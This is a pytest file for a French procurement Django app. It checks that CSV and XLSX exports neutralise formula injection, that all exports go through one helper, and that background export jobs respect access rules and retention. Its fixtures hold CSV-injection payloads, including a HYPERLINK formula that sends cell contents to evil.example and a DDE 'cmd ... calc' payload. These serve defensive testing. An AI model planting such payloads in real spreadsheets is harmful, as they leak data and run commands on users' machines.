"""Exports safe to open (issue 15) and that open in French Excel (issue 17): every export URL of every app is
walked with hostile values in the data (a contract object, a supplier name, a census need starting with « = »,
« + », « - », « @ », a tab or a carriage return); no CSV cell may start with a formula character and no XLSX
cell may be a formula. A static check keeps every export going through pilote.core.tabular."""

import csv
import datetime as dt
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import get_resolver

from pilote.analytics import exports as cockpit_exports
from pilote.core import tabular
from pilote.core.enums import Role
from tests.analytics.store import S1, contrat, write_store
from tests.core.factories import MembershipFactory, OrganisationFactory


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+33 1 23 45",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff"), "CSV sans BOM : Excel lirait mal les accents"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def assert_csv_safe(content: bytes) -> list[list[str]]:
    rows = csv_cells(content)
    for row in rows:
        for cell in row:
            # A negative number is a number, not a formula: « -1200,5 » stays as it is.
            if cell.startswith(FORMULA_START) and not re.fullmatch(r"-\d+(,\d+)?( %)?", cell):
                raise AssertionError(f"cellule CSV active : {cell!r}")
    return rows


def xlsx_parts(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {n: archive.read(n).decode() for n in archive.namelist() if n.endswith(".xml")}


def assert_xlsx_safe(content: bytes) -> str:
    parts = xlsx_parts(content)
    sheets = "".join(v for k, v in parts.items() if k.startswith("xl/worksheets/"))
    assert "<f>" not in sheets, "formule dans une cellule XLSX"
    assert "<f " not in sheets, "formule dans une cellule XLSX"
    return parts.get("xl/sharedStrings.xml", "")


# --- the cockpit: every table, CSV and XLSX ---------------------------------------------------------------------


@pytest.fixture
def hostile_store(settings):
    contrats = [
        contrat(
            f"h{i}",
            acheteur_id=S1,
            objet=value,
            code_cpv="45233000",
            procedure="Appel d'offres ouvert",
            date_notification=dt.date(2024, 3, i + 1),
            date_publication_donnees=dt.date(2024, 3, i + 2),
            montant=1000.5 * (i + 1),
            offres_recues=1,
            considerations_sociales=["Clause sociale"],
            considerations_environnementales=["Pas de considération environnementale"],
        )
        for i, value in enumerate(HOSTILE)
    ]
    titulaires = [
        {"contrat_uid": f"h{i}", "rang": 0, "titulaire_id": f"1111111111111{i}", "titulaire_nom": value}
        for i, value in enumerate(HOSTILE)
    ]
    return write_store(settings.PILOTE_DATA_DIR, contrats, titulaires)


@pytest.fixture
def elu(db):
    commune = OrganisationFactory(name="Commune A", slug="commune-a", sirets=[S1])
    return MembershipFactory(organisation=commune, role=Role.ELU).user


@pytest.mark.django_db
@pytest.mark.parametrize("table", sorted(cockpit_exports.TABLES))
def test_every_cockpit_export_keeps_hostile_texts_as_text(client, hostile_store, elu, table):
    client.force_login(elu)
    csv_response = client.get(f"/o/commune-a/cockpit/export/?tableau={table}&format=csv")
    assert csv_response.status_code == 200
    rows = assert_csv_safe(csv_response.content)
    xlsx_response = client.get(f"/o/commune-a/cockpit/export/?tableau={table}&format=xlsx")
    assert xlsx_response.status_code == 200
    strings = assert_xlsx_safe(xlsx_response.content)
    if table == "contrats":
        objets = {row[3] for row in rows[1:]}
        assert {"'" + value for value in HOSTILE} <= objets
        assert "=HYPERLINK(&quot;http://evil.example" in strings or '=HYPERLINK("http://evil.example' in strings


@pytest.mark.django_db
def test_cockpit_exports_open_in_french_excel(client, hostile_store, elu):
    client.force_login(elu)
    rows = csv_cells(client.get("/o/commune-a/cockpit/export/?tableau=contrats&format=csv").content)
    lines = [dict(zip(rows[0], row, strict=False)) for row in rows[1:]]
    amounts = {line["Montant initial (€ HT, à la notification)"] for line in lines}
    assert {"1000,5", "3001,5", "6003"} <= amounts  # a comma as the decimal mark, never a point
    assert all(re.fullmatch(r"\d{2}/\d{2}/\d{4}", line["Date de notification"]) for line in lines)
    assert {line["Montant exclu (anomalie)"] for line in lines} == {"non"}
    assert not any(cell in {"True", "False"} for row in rows for cell in row)
    years = csv_cells(client.get("/o/commune-a/cockpit/export/?tableau=annees&format=csv").content)
    share = dict(zip(years[0], years[1], strict=False))["Taux d'offre unique"]
    assert share == "100 %"
    content = client.get("/o/commune-a/cockpit/export/?tableau=annees&format=xlsx").content
    styles = xlsx_parts(content)["xl/styles.xml"]
    assert 'formatCode="0.0%"' in styles
    assert 'formatCode="#,##0.00 &quot;€&quot;"' in styles


# --- the explorer's CSV -----------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_explorer_export_keeps_hostile_objects_as_text(client, members_a, org_a, settings, tmp_path):
    from pilote.contracts.search import index as explorer_index
    from pilote.decp.importer import run_import
    from tests.explorer.conftest import BUYER_ROUEN, SUPPLIER_REPAS, marche

    records = [
        (f"X{i}", BUYER_ROUEN, value, "55523100", 1000.5, "76000", "2024-03-01", 12, 1, SUPPLIER_REPAS, True)
        for i, value in enumerate(HOSTILE)
    ]
    source = tmp_path / "decp-hostile.json"
    source.write_text(json.dumps({"marches": {"marche": [marche(r) for r in records]}}), encoding="utf-8")
    run_import([str(source)], data_dir=settings.PILOTE_DATA_DIR)
    explorer_index._LOADED.clear()
    try:
        client.force_login(members_a[Role.AGENT])
        response = client.get(f"/o/{org_a.slug}/explorer/export.csv")
        rows = assert_csv_safe(response.content)
        objets = {row[4] for row in rows[1:]}
        assert "'\t=1+1" in objets  # the leading tab is neutralised, not dropped
        assert any(row[7] == "1000,5" for row in rows[1:])  # French decimal mark

        # Above the threshold, the same export is built by a task and downloaded from the job's page.
        from pilote.core import export_jobs
        from pilote.core.models import ExportJob

        settings.PILOTE_EXPORT_TASK_ROWS = 3
        response = client.get(f"/o/{org_a.slug}/explorer/export.csv")
        job = ExportJob.objects.get(kind="explorer")
        assert response["Location"] == f"/o/{org_a.slug}/exports/{job.pk}/"
        assert export_jobs.execute_export_job(job.pk) == {"statut": "pret", "lignes": len(HOSTILE)}
        download = client.get(f"/o/{org_a.slug}/exports/{job.pk}/fichier/")
        background = assert_csv_safe(b"".join(download.streaming_content))
        assert sorted(map(tuple, background[1:])) == sorted(map(tuple, rows[1:]))
    finally:
        explorer_index._LOADED.clear()


# --- the census: purchase plan, template, example -----------------------------------------------------------------


@pytest.mark.django_db
def test_census_downloads_keep_hostile_needs_as_text(client, org_a, members_a):
    from pilote.recensement import services
    from pilote.recensement.exports import EXAMPLE_SERVICES

    appui = members_a[Role.APPUI]
    campaign = services.do_open_campaign(
        org_a, actor=appui, year=2027, title="@Recensement", deadline=dt.date(2099, 1, 31),
        big_purchase_threshold=90000, services=EXAMPLE_SERVICES,
    )  # fmt: skip
    service = campaign.services.get(name="Éducation")
    for value in HOSTILE:
        fields = {"service": service, "objet": value, "code_cpv": "55523100", "montant_estime": 1000, "site": value}
        fields["date_souhaitee"] = dt.date(2027, 3, 1)
        services.do_create_need(campaign, actor=appui, fields=fields)
    client.force_login(appui)
    base = f"/o/{org_a.slug}/recensement/"
    plan = client.get(f"{base}{campaign.pk}/programmation.xlsx")
    assert plan.status_code == 200
    strings = assert_xlsx_safe(plan.content)
    assert "@SUM(1+1)" in strings
    assert 'formatCode="#,##0.00 &quot;€&quot;"' in xlsx_parts(plan.content)["xl/styles.xml"]
    for name in ("modele.xlsx", "exemple.xlsx"):
        assert_xlsx_safe(client.get(base + name).content)


# --- every export goes through the one helper ---------------------------------------------------------------------

EXPORT_URLS = {
    "analytics:export",  # walked above, every table
    "core:export_job",  # a background export's page and file: walked below
    "core:export_file",
    "explorer:export",  # walked above
    "recensement:plan_xlsx",
    "recensement:template",
    "recensement:example",
    "decp:import_rejects",  # tabular.csv_response; its rows come from the rejects table
    "territoire:export_schemes",  # open-data publications (their schema's columns): walked below
    "territoire:export_scdl",
    "communs:scdl_export",
}


def _open_data_cells(content: bytes) -> list[list[str]]:
    """An open-data CSV (its schema's columns, `;`, no BOM required): no cell may start a formula."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8").removeprefix("\ufeff")), delimiter=";"))
    active = [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
    assert active == [], f"cellules actives : {active}"
    return rows


def test_territory_and_commons_publications_carry_no_formula(client, org_a, members_a):
    from pilote.communs import scdl
    from pilote.territoire import services as territoire
    from tests.communs import helpers

    appui = members_a[Role.APPUI]
    territoire.do_add_scheme(org_a, actor=appui, row={
        "id": "3f2b8c1e-1111-4222-8333-944455556666", "titre": '=HYPERLINK("http://x.example";"aide")',
        "description": "@SUM(1+1)", "eligibilite": "+associations", "types_aides": "financement",
        "porteurs": '[{"nom": "=Région", "roles": []}]', "cibles": "associations",
        "eligibilite_geographique": "REG-28", "date_mise_a_jour": "2026-12-01T00:00:00Z",
    })  # fmt: skip
    client.force_login(appui)
    rows = _open_data_cells(client.get(f"/o/{org_a.slug}/territoire/dispositifs-aide.csv").content)
    assert any("HYPERLINK" in cell for row in rows for cell in row)
    _open_data_cells(client.get(f"/o/{org_a.slug}/territoire/subventions-scdl.csv").content)
    manager = helpers.manager(org_a)
    initiative = helpers.initiative(org_a, manager, name="=cmd|' /C calc'!A0", siret="73282932000074")
    helpers.grant(initiative, manager, 50)
    rows = _open_data_cells(scdl.export_csv(org_a, 2026).encode())
    assert rows[0][0] == scdl.HEADER[0]


def _names(resolver, prefix=""):
    for pattern in resolver.url_patterns:
        if hasattr(pattern, "url_patterns"):
            yield from _names(pattern, prefix + (f"{pattern.namespace}:" if pattern.namespace else ""))
        elif pattern.name:
            route = str(pattern.pattern)
            if route.endswith((".csv", ".xlsx", ".csv$", ".xlsx$")) or "export" in route:
                yield prefix + pattern.name


def test_every_export_url_is_walked_here():
    assert set(_names(get_resolver())) == EXPORT_URLS


def test_no_module_writes_a_spreadsheet_without_the_helper():
    """xlsxwriter, csv.writer and spreadsheet content types only in pilote/core/tabular.py."""
    root = Path(__file__).resolve().parents[2] / "pilote"
    forbidden = re.compile(
        r"import xlsxwriter|from xlsxwriter|csv\.writer|csv\.DictWriter|text/csv|spreadsheetml\.sheet\""
        r"|write_formula|write_url"
    )
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "tabular.py"
        and path.parts[-2:] != ("core", "uploads.py")
        and forbidden.search(path.read_text())
    ]
    assert offenders == []


def test_the_helper_refuses_the_raw_writes_that_would_make_a_formula():
    book = tabular.Workbook()
    sheet = book.add_sheet("x")
    for name in ("write_formula", "write_url", "write_column", "write_array_formula"):
        with pytest.raises(AttributeError):
            getattr(sheet, name)
    sheet.merge_range(0, 0, 0, 2, "=1+1")
    assert_xlsx_safe(book.close())


# --- heavy exports: built by a task, downloadable by the organisation that asked, deleted after retention -------


@pytest.mark.django_db
def test_a_big_contract_list_is_exported_by_a_task_not_in_the_request(client, hostile_store, elu, settings):
    import os
    import time

    from pilote.core import export_jobs, retention, uploads
    from pilote.core.models import AuditEvent, ExportJob

    settings.PILOTE_EXPORT_TASK_ROWS = 3  # the store has 6 contracts of the organisation
    client.force_login(elu)
    response = client.get("/o/commune-a/cockpit/export/?tableau=contrats&format=xlsx&annee=2024")
    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/o/commune-a/exports/{job.pk}/"
    assert (job.status, job.requested_by, job.kind, job.query) == (
        ExportJob.Status.PENDING,
        elu,
        "cockpit",
        "tableau=contrats&format=xlsx&annee=2024",
    )
    assert AuditEvent.objects.filter(verb="export.demande").count() == 1
    page = client.get(response["Location"]).content.decode()
    assert "En attente du démarrage" in page
    assert 'hx-trigger="every 2s"' in page

    assert export_jobs.execute_export_job(job.pk) == {"statut": "pret", "lignes": 6}
    page = client.get(response["Location"]).content.decode()
    assert "Télécharger le fichier" in page
    download = client.get(f"/o/commune-a/exports/{job.pk}/fichier/")
    content = b"".join(download.streaming_content)
    assert download["Content-Type"] == tabular.XLSX_CONTENT_TYPE
    assert "@SUM(1+1)" in assert_xlsx_safe(content)

    # Another organisation's member cannot see the job nor its file.
    other = MembershipFactory(organisation=OrganisationFactory(slug="commune-b"), role=Role.ELU).user
    client.force_login(other)
    assert client.get(f"/o/commune-b/exports/{job.pk}/").status_code == 404
    assert client.get(f"/o/commune-b/exports/{job.pk}/fichier/").status_code == 404

    # After the retention the file is deleted; the page says so and the link answers 404.
    job.refresh_from_db()
    path = uploads.private_root() / "exports" / job.file_name
    old = time.time() - 2 * 86400
    os.utime(path, (old, old))
    assert retention.purge_expired() >= 1
    client.force_login(elu)
    assert "supprimé après sa durée de conservation" in client.get(f"/o/commune-a/exports/{job.pk}/").content.decode()
    assert client.get(f"/o/commune-a/exports/{job.pk}/fichier/").status_code == 404


@pytest.mark.django_db
def test_small_lists_and_aggregates_stay_in_the_request(client, hostile_store, elu, settings):
    from pilote.core.models import ExportJob

    settings.PILOTE_EXPORT_TASK_ROWS = 3
    client.force_login(elu)
    assert client.get("/o/commune-a/cockpit/export/?tableau=annees&format=xlsx").status_code == 200
    assert client.get("/o/commune-a/cockpit/export/?tableau=contrats&format=json").status_code == 200
    settings.PILOTE_EXPORT_TASK_ROWS = 100
    assert client.get("/o/commune-a/cockpit/export/?tableau=contrats&format=csv").status_code == 200
    assert not ExportJob.objects.exists()


@pytest.mark.django_db
def test_a_failing_export_job_ends_failed_with_a_french_message(hostile_store, elu, monkeypatch):
    from pilote.analytics import exports
    from pilote.core import export_jobs
    from pilote.core.models import ExportJob

    organisation = elu.memberships.get().organisation
    job = ExportJob.objects.create(organisation=organisation, kind="cockpit", fmt="xlsx", query="tableau=contrats")

    def broken(*args, **kwargs):
        raise OSError("disque plein")

    monkeypatch.setattr(exports, "file_content", broken)
    assert export_jobs.execute_export_job(job.pk) == {"statut": "echec"}
    job.refresh_from_db()
    assert job.status == ExportJob.Status.FAILED
    assert job.message.startswith("L'export n'a pas pu être préparé (OSError)")
